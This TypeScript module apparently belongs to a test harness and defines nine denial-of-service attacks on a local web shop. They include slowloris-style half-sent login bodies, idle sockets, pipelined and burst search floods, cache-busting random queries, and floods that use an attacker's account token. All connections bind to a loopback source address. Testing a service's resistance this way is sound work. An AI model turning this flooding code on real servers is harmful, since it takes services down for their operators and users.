import { connect, type Socket } from 'node:net';

/** The IP address that all attacks come from. */
const localAddress = '127.0.0.66';

interface Target {
  host: string;
  port: number;
  /** The token of an account that the attacker opened. */
  token: string;
}

/** An attack with one computer. */
type Attack = (target: Target) => void;

/** A thousand sign-ins whose bodies never end, four bytes a second each. */
const halfBodies: Attack = (target) => {
  keepOpen(1_000, target, (socket) => {
    socket.write(
      'POST /api/auth/login HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 10000\r\n\r\n{"id',
    );
    const dripping = setInterval(() => socket.write('aaaa'), 1_000);
    socket.once('close', () => clearInterval(dripping));
  });
};

const silentSockets: Attack = (target) => keepOpen(5_000, target, () => {});

/** A thousand searches in one piece; hangs up a second later, and begins again. */
const pipelined: Attack = (target) => {
  keepOpen(1, target, (socket) => {
    socket.write(Array.from({ length: 1_000 }, () => search()).join(''));
    setTimeout(() => socket.destroy(), 1_000);
  });
};

/** Forty connections, each of which searches again as soon as it was answered. */
const searches: Attack = (target) => askAgain(40, target, () => search());

/** Three hundred new connections at once, each for one search, again and again. */
const burst: Attack = (target) => {
  keepOpen(300, target, (socket) => {
    socket.write(search());
    socket.once('data', () => socket.destroy());
  });
};

/** As `burst`, but each asks for a list with a filter that nobody has asked for. */
const burstOfLists: Attack = (target) => {
  keepOpen(300, target, (socket) => {
    socket.write(get(`/product?minPrice=${Math.random()}`));
    socket.once('data', () => socket.destroy());
  });
};

/** Forty connections that ask for pages that nobody has asked for. */
const newPages: Attack = (target) => askAgain(40, target, () => get(`/product/${randomWord()}`));

/** Forty connections that search with a free account. */
const accountSearches: Attack = (target) =>
  askAgain(40, target, () => search('/api/products', signedIn(target)));

/** Five hundred connections that ask for the cart of a free account. */
const accountCalls: Attack = (target) =>
  askAgain(500, target, () => get('/api/cart', signedIn(target)));

export const attacks = {
  halfBodies,
  silentSockets,
  pipelined,
  searches,
  burst,
  burstOfLists,
  newPages,
  accountSearches,
  accountCalls,
};
export type AttackName = keyof typeof attacks;

const randomWord = () => Math.random().toString(36).slice(2, 10);

const get = (path: string, headers = '') => `GET ${path} HTTP/1.1\r\nHost: shop\r\n${headers}\r\n`;

const signedIn = ({ token }: Target) => `Authorization: Bearer ${token}\r\n`;

const search = (path = '/product', headers = '') => {
  const words = Array.from({ length: 8 }, randomWord).join('+');
  return get(`${path}?search=${words}`, headers);
};

/** Opens so many connections, each of which asks again as soon as it was answered. */
function askAgain(count: number, target: Target, ask: () => string) {
  keepOpen(count, target, (socket) => {
    socket.write(ask());
    socket.on('data', () => socket.write(ask()));
  });
}

/** Opens so many connections, and another one for each that is closed. */
function keepOpen(count: number, { host, port }: Target, begin: (socket: Socket) => void) {
  const open = () => {
    const socket = connect({ host, port, localAddress });
    socket.on('error', () => {});
    socket.once('connect', () => begin(socket));
    // One that is refused at once would otherwise keep this process busy.
    socket.once('close', () => setTimeout(open, 100));
    socket.resume();
  };
  for (let nth = 0; nth < count; nth += 1) open();
}
